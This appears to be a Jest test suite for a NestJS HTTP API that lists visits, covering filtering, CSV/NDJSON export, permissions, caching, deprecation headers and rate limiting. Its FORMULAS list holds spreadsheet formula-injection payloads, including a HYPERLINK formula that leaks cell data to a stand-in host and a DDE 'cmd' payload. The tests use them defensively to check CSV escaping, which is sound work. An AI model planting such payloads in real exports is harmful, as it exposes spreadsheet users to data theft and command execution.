import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { type Credential, FIELD_KINDS } from '@claimwright/platform-security';
import { Controller, Get, Module } from '@nestjs/common';
import { type NestFastifyApplication } from '@nestjs/platform-fastify';
import { Type } from 'typebox';
import { Permission } from './access.js';
import { createHttpApp } from './http-app.js';
import { among, defineList, equal, fromDay } from './lists/define-list.js';
import { ListQuery, type Wanted } from './lists/list-query.js';
import { Deprecated, Returns } from './openapi-decorators.js';
import { type Page } from './paging.js';

const Visit = Type.Object({ id: Type.String(), day: Type.String(), note: Type.Optional(Type.String()), traceNumber: Type.Optional(Type.String()), parts: Type.Array(Type.String()) }, { title: 'Visit' });
const VISITS = defineList({
  name: 'visits', item: Visit, select: '*', from: 'visit', order: 'day',
  filters: { status: among('status', Type.Enum(['open', 'closed'])), dayFrom: fromDay('day'), traceNumber: equal('trace_number', Type.String({ maxLength: 50 })) },
});
const LAST = 1_203;
/** What spreadsheets, those with wide characters among them, take for a formula or for the beginning of another cell. */
const FORMULAS = ['=1+1,"x"', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(A1)', '=HYPERLINK("https://evil.example.test/?"&A1)', "=cmd|' /C calc'!A0", '"\n=1+1', 'x\n=1+1', 'x","=1+1', '=1+1\r\nv9,=1+1'];

@Controller('v1')
class VisitsController {
  static wanted: Wanted[] = [];
  static breakAt = Infinity;

  @Get('visits') @Permission('visits:read') @Returns(200, Type.Object({ items: Type.Array(Visit) }), 'A page')
  list(@ListQuery(VISITS) wanted: Wanted): Page<object> {
    VisitsController.wanted.push(wanted);
    const from = Number(wanted.cursor ?? 0);
    if (from >= VisitsController.breakAt) throw new TypeError('canary-in-a-message');
    const items = Array.from({ length: Math.min(wanted.limit, LAST - from) }, (_, i) => ({ id: `v${from + i}`, day: '2026-03-01', traceNumber: 'TRN-9', ...(FORMULAS[from + i] !== undefined && { note: FORMULAS[from + i] }), parts: ['a'] }));
    return from + wanted.limit < LAST ? { items, nextCursor: String(from + wanted.limit) } : { items };
  }

  @Get('old') @Permission('visits:read') @Returns(200, Visit, 'A visit') @Deprecated({ since: '2026-11-01', sunset: '2027-05-01', link: 'https://docs.example/visits' })
  old(): object {
    return { id: 'v1', day: '2026-03-01', parts: [] };
  }
}

@Module({ controllers: [VisitsController] })
class VisitsModule {}

const SECRET = 'cw_live_reading_only_key';
const BUSY = 'cw_live_always_asking_key';
const LIMITED = 'cw_live_seeing_little_key';
const PER_MINUTE = 200;
const logged: unknown[] = [];
let app: NestFastifyApplication;
let base: string;
beforeAll(async () => {
  const keys = new Map([SECRET, BUSY, LIMITED].map((secret): [string, Credential] => [secret, { orgId: 'org_1', subject: `key:${secret}`, permissions: ['visits:read'], fields: secret === LIMITED ? [] : FIELD_KINDS, addresses: [], expiresAt: null }]));
  app = await createHttpApp([VisitsModule], {
    verifier: { find: async (secret) => keys.get(secret) },
    log: { info: () => undefined, error: (message) => logged.push(message) },
    docs: { title: 'Visits' }, requestsPerMinute: PER_MINUTE,
  }, false);
  await app.listen(0, '127.0.0.1');
  base = await app.getUrl();
});
afterAll(() => app.close());

const get = (at: string, headers: Record<string, string> = {}, secret = SECRET) => fetch(base + at, { headers: { authorization: `Bearer ${secret}`, ...headers } });
const problem = async (answer: Response) => ({ status: answer.status, ...(await answer.json() as { code: string; findings?: { pointer: string; code: string }[] }) });

describe('a list', () => {
  it('is read by what its declaration names', async () => {
    VisitsController.wanted = [];
    expect((await get('/v1/visits?status=open&status=closed&dayFrom=2026-03-01&limit=7&sort=-day&cursor=3')).status).toBe(200);
    expect(VisitsController.wanted).toEqual([{ limit: 7, sort: '-day', cursor: '3', filters: { status: ['open', 'closed'], dayFrom: '2026-03-01' } }]);
  });

  it.each([
    ['status=late', '/status', 'not_one_of'], ['dayFrom=2026-02-30', '/dayFrom', 'wrong_format'], ['dayFrom=0000-01-01', '/dayFrom', 'wrong_format'], ['limit=0', '/limit', 'out_of_range'], ['limit=1e1', '/limit', 'out_of_range'],
    ['sort=note', '/sort', 'not_one_of'], ['fields=id,secret', '/fields', 'not_one_of'], ['page=2', '/page', 'unknown_field'], ['dayFrom=2026-03-01&dayFrom=2026-03-02', '/dayFrom', 'wrong_type'], ['__proto__=1', '/__proto__', 'unknown_field'],
  ])('refuses %s and says where', async (query, pointer, code) => {
    expect(await problem(await get(`/v1/visits?${query}`))).toMatchObject({ status: 400, code: 'invalid_parameter', findings: [{ pointer, code }] });
  });

  it('shows only the fields that are asked for', async () => {
    expect((await (await get('/v1/visits?fields=id,parts&limit=1')).json() as Page<object>).items).toEqual([{ id: 'v0', parts: ['a'] }]);
  });

  it('comes whole as NDJSON or CSV', async () => {
    const ndjson = await get('/v1/visits?fields=id&limit=5', { accept: 'application/x-ndjson' });
    expect(ndjson.headers.get('content-type')).toBe('application/x-ndjson');
    const lines = (await ndjson.text()).trimEnd().split('\n').map((line) => JSON.parse(line) as { id: string });
    expect(lines.map(({ id }) => id)).toEqual(Array.from({ length: LAST }, (_, i) => `v${i}`));
    const csv = await get('/v1/visits', { accept: 'text/csv' });
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const text = await csv.text();
    expect(text.slice(0, text.indexOf('\nv2,'))).toBe(`id,day,note,traceNumber,parts\nv0,2026-03-01,"'=1+1,""x""",TRN-9,"[""a""]"\nv1,2026-03-01,'+1+1,TRN-9,"[""a""]"`);
    expect(text.match(/^v\d+,2026-03-01/gm)).toHaveLength(LAST);
  });

  it('has no cell in CSV that a spreadsheet would take for a formula, nor one more or fewer than it should', async () => {
    const csv = await (await get('/v1/visits?fields=id,note', { accept: 'text/csv' })).text();
    // RFC 4180: a cell is quoted whole or has no quote, comma or line end; a record ends at a line end outside of quotes.
    const cells = [...csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\n)/g)].map(([, quoted, bare]) => (quoted ?? bare ?? '').replaceAll('""', '"'));
    expect(cells).toHaveLength(2 * (LAST + 1));
    expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
    expect(FORMULAS.map((_, i) => cells[2 * (i + 1) + 1]?.replace(/^'/, ''))).toEqual(FORMULAS);
  });

  it('holds in every form only what the caller\'s role needs, and is not searched by what it does not', async () => {
    for (const accept of ['application/json', 'application/x-ndjson', 'text/csv']) {
      const answer = await get('/v1/visits', { accept }, LIMITED);
      expect(answer.status).toBe(200);
      expect(await answer.text()).not.toContain('TRN-9');
    }
    expect(await problem(await get('/v1/visits?traceNumber=TRN-9', {}, LIMITED))).toMatchObject({ status: 403, code: 'not_permitted' });
    expect((await get('/v1/visits?traceNumber=TRN-9')).status).toBe(200);
  });

  it('goes on as a stream from its cursor', async () => {
    expect((await (await get('/v1/visits?cursor=1200&fields=id', { accept: 'application/x-ndjson' })).text()).split('\n').filter(Boolean)).toHaveLength(3);
  });

  it('ends a stream that fails in a way that nobody takes for its end', async () => {
    VisitsController.breakAt = 500;
    const lines = (await (await get('/v1/visits', { accept: 'application/x-ndjson' })).text()).trimEnd().split('\n');
    expect(JSON.parse(lines.at(-1) ?? '')).toMatchObject({ problem: { status: 500, code: 'internal_error' } });
    await expect((async () => (await get('/v1/visits', { accept: 'text/csv' })).text())()).rejects.toThrow();
    VisitsController.breakAt = Infinity;
    expect(logged).toEqual(['list broke off', 'list broke off']);
  });
});

describe('a request', () => {
  it('that accepts nothing of what there is is told what there is', async () => {
    expect(await problem(await get('/v1/visits', { accept: 'application/xml' }))).toMatchObject({ status: 406, code: 'not_acceptable' });
    for (const accept of ['*/*', 'application/*', 'text/html, */*;q=0.1', 'application/json;q=0.5, application/xml']) expect((await get('/v1/visits?limit=1', { accept })).headers.get('content-type')).toContain('application/json');
  });

  it('for what the caller has already is answered with 304', async () => {
    const first = await get('/v1/visits?limit=1');
    const again = await get('/v1/visits?limit=1', { 'if-none-match': `"other", W/${first.headers.get('etag')}` });
    expect([again.status, await again.text(), again.headers.get('etag')]).toEqual([304, '', first.headers.get('etag')]);
    expect((await get('/v1/visits?limit=2', { 'if-none-match': first.headers.get('etag') ?? '' })).status).toBe(200);
  });

  it('to a route that is given up is told so', async () => {
    const { headers } = await get('/v1/old');
    expect([headers.get('deprecation'), headers.get('sunset'), headers.get('link')]).toEqual(['@1793491200', 'Sat, 01 May 2027 00:00:00 GMT', '<https://docs.example/visits>; rel="deprecation"']);
    expect(await (await fetch(`${base}/openapi.json`)).json()).toMatchObject({ paths: { '/v1/old': { get: { deprecated: true } } } });
  });

  it('past the limit of its key is refused for a while, and no other key is', async () => {
    const { headers } = await get('/v1/old', {}, BUSY);
    expect([headers.get('ratelimit-policy'), headers.get('ratelimit')]).toEqual([`"key";q=${PER_MINUTE};w=60`, `"key";r=${PER_MINUTE - 1};t=60`]);
    for (let i = 1; i < PER_MINUTE; i++) expect((await get('/v1/old', {}, BUSY)).status).toBe(200);
    const refused = await get('/v1/old', {}, BUSY);
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(refused.headers.get('ratelimit')).toMatch(/^"key";r=0;t=\d+$/);
    expect(await problem(refused)).toMatchObject({ status: 429, code: 'too_many_requests' });
    expect((await get('/v1/old')).status).toBe(200);
  });

  it.each(['/v1/visits/', '/V1/visits', '/v1/Visits', '//v1/visits', '/v1//visits', '/v1/%76isits/', '/v1/visits;a=b', '/v1/./visits/x'])('to %s finds nothing', async (at) => {
    const { status } = await get(at);
    expect([301, 302, 307, 308, 200]).not.toContain(status);
  });
});
